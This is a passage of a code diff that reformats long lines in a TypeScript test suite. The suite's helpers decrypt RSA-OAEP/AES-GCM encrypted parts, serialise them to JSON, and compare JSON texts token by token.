       assert.doesNotMatch(await written(named("text")), /\n|\{\{/);
     });
   });
@@ -406,7 +611,10 @@ describe("a learned shape", () => {
 
   function opened(parts: Partial<Written>, read: (written: unknown) => Buffer, aad?: string): string {
     const privateKey = orders.keys.privateKeyPem ?? "";
-    const key = crypto.privateDecrypt({ key: privateKey, padding: crypto.constants.RSA_PKCS1_OAEP_PADDING, oaepHash: "sha256" }, read(parts.key));
+    const key = crypto.privateDecrypt(
+      { key: privateKey, padding: crypto.constants.RSA_PKCS1_OAEP_PADDING, oaepHash: "sha256" },
+      read(parts.key),
+    );
     const decipher = crypto.createDecipheriv("aes-256-gcm", key, read(parts.iv));
     if (aad !== undefined) decipher.setAAD(Buffer.from(aad));
     decipher.setAuthTag(read(parts.tag));
@@ -416,14 +624,25 @@ describe("a learned shape", () => {
 
 function asJson(parts: Record<Role, Buffer>, write: (bytes: Buffer) => unknown): Record<Role, string> {
   const { key, iv, tag, data } = parts;
-  return { key: JSON.stringify(write(key)), iv: JSON.stringify(write(iv)), tag: JSON.stringify(write(tag)), data: JSON.stringify(write(data)) };
+  return {
+    key: JSON.stringify(write(key)),
+    iv: JSON.stringify(write(iv)),
+    tag: JSON.stringify(write(tag)),
+    data: JSON.stringify(write(data)),
+  };
 }
 
 /**
  * Whether two texts of JSON are the same token by token, but for the parts, which are gathered. Order, duplicate names
  * and the digits of numbers count; strings that hold JSON are looked into.
  */
-function compare(before: string, after: string, parts: ReadonlyMap<string, Role>, found: Partial<Written>, where: string): void {
+function compare(
+  before: string,
+  after: string,
+  parts: ReadonlyMap<string, Role>,
+  found: Partial<Written>,
+  where: string,
+): void {
   // What was written as a list or an object becomes one token.
   const [old = [], now = []] = [before, after].map((text): string[] => text.match(TOKENS) ?? []);
   assert.equal(now.length, old.length, `${where}: ${after.slice(0, 300)}`);
@@ -441,7 +660,8 @@ function compare(before: string, after: string, parts: ReadonlyMap<string, Role>
 }
 
 /** Strings, lists of numbers, Node's buffers, marks, and all else. */
-const TOKENS = /"(?:[^"\\]|\\.)*"(?=\s*:)|\{"type":"Buffer","data":\[[\d,]*\]\}|\[-?\d[-\d,]*\]|"(?:[^"\\]|\\.)*"|[{}[\]:,]|[^\s{}[\]:,"]+/g;
+const TOKENS =
+  /"(?:[^"\\]|\\.)*"(?=\s*:)|\{"type":"Buffer","data":\[[\d,]*\]\}|\[-?\d[-\d,]*\]|"(?:[^"\\]|\\.)*"|[{}[\]:,]|[^\s{}[\]:,"]+/g;
 
 function inLines(text: string, width: number, separator: string): string {
   return (text.match(new RegExp(`.{1,${width}}`, "g")) ?? []).join(separator);
